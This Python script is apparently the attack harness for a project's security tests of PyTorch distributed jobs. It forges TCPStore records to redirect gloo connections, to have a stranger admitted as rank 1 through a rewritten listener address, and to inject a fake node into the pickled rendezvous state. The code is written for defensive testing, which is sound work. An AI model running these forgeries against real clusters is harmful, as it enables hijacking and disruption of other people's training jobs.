"""The attacker of tests/test_security_local.py and test_security_lab.py that reaches a job's
stores: another local user, or a host without the job secret, writing well-formed records into a
TCPStore.

    python3 store_forger.py HOST PORT gloo     # forged gloo connection records
    python3 store_forger.py HOST PORT admit    # forged admission records: a stranger as rank 1
    python3 store_forger.py HOST PORT state    # a forged rendezvous state: a fake node waiting

It connects, says "connected", and waits for a line on its standard input before it writes (so
it can start with the job, and strike once the records it copies exist). ``gloo``: copies rank
0's record of the default group and writes it as the record of every rank of the next process
groups (keys gloo has not written yet), so those ranks would dial whatever it names. ``admit``:
the stranger's bid to join the next process groups as rank 1: a listener of its own, and rank
0's record rewritten to that listener's address as rank 1's record of those groups, so that rank
0 would connect to the stranger and take it for a member; once its standard input closes it
says whether anyone dialled. ``state``: reads torch's rendezvous state (once there is one), adds a node to its wait
list (which makes torch's agents restart every worker to admit it) and writes it back. Prints
what it wrote.
"""

import base64
import pickle
import re
import select
import socket
import sys
import time
from datetime import timedelta

import torch.distributed as dist

host, port, what = sys.argv[1], int(sys.argv[2]), sys.argv[3]
store = dist.TCPStore(host, port, is_master=False, timeout=timedelta(seconds=10),
                      wait_for_workers=False)
print("connected", flush=True)
sys.stdin.readline()  # started with the job, it strikes when told (the job's records exist then)
keys = store.list_keys()


def plant(record: bytes, ranks) -> list[str]:
    """``record`` as the given ranks' records of the next process groups (keys not yet written).
    gloo's keys: PREFIX/cpu//0/RANK for the default group, PREFIX/GROUP//cpu//0/RANK after."""
    written = []
    for group in range(1, 40):
        for rank in ranks:
            key = f"{prefix}/{group}//cpu//0/{rank}"
            if not store.check([key]):
                store.set(key, record)
                written.append(key)
    return written


if what in ("gloo", "admit"):
    source = next(k for k in keys if k.endswith("//cpu//0/0") and k.count("//") == 2)
    prefix = source[:-len("/cpu//0/0")]
    record = store.get(source)
if what == "gloo":
    written = plant(record, range(4))
    print("forged", len(written), "gloo records, e.g.", written[0], flush=True)
elif what == "admit":
    # A record holds sockaddr_in structures of the rank's listener (family, port, IPv4 address:
    # 8 bytes); every one of rank 0's becomes this process's own listener.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((host, port))  # the address on the route to the store (sends nothing)
        mine = probe.getsockname()[0]
    listener = socket.create_server((mine, 0))
    # AF_INET (little-endian), a port, then rank 0's address: that of the store's host here.
    theirs = re.search(b"\x02\x00.." + re.escape(socket.inet_aton(host)), record, re.S).group()
    ours = b"\x02\x00" + listener.getsockname()[1].to_bytes(2, "big") + socket.inet_aton(mine)
    written = plant(record.replace(theirs, ours), range(1, 4))
    print("forged", len(written), "admission records as rank 1, e.g.", written[0], "listening on",
          f"{mine}:{listener.getsockname()[1]}", flush=True)
    ready, _, _ = select.select([listener, sys.stdin], [], [])
    if listener in ready:
        conn, peer = listener.accept()
        print("dialled by", peer[0], flush=True)
    else:
        print("never dialled", flush=True)
elif what == "state":
    from torch.distributed.elastic.rendezvous.dynamic_rendezvous import _NodeDesc

    deadline = time.monotonic() + 60  # told to strike as the job starts: once the state exists
    while not (found := [k for k in keys if k.startswith("torch.rendezvous.") and k.count(".") == 2]):
        assert time.monotonic() < deadline, "no rendezvous state in the store"
        time.sleep(0.1)
        keys = store.list_keys()
    key = found[0]
    raw = store.get(key)
    for start in (0, 32, 48):  # as stored, or behind a tag (and nonce) the attacker cannot make
        try:
            state = pickle.loads(base64.b64decode(raw[start:], validate=True))
            break
        except Exception:
            continue
    state.wait_list.add(_NodeDesc("10.9.9.9", 4242, 0))
    store.set(key, base64.b64encode(pickle.dumps(state)))
    print("forged the rendezvous state at", key, "round", state.round, flush=True)
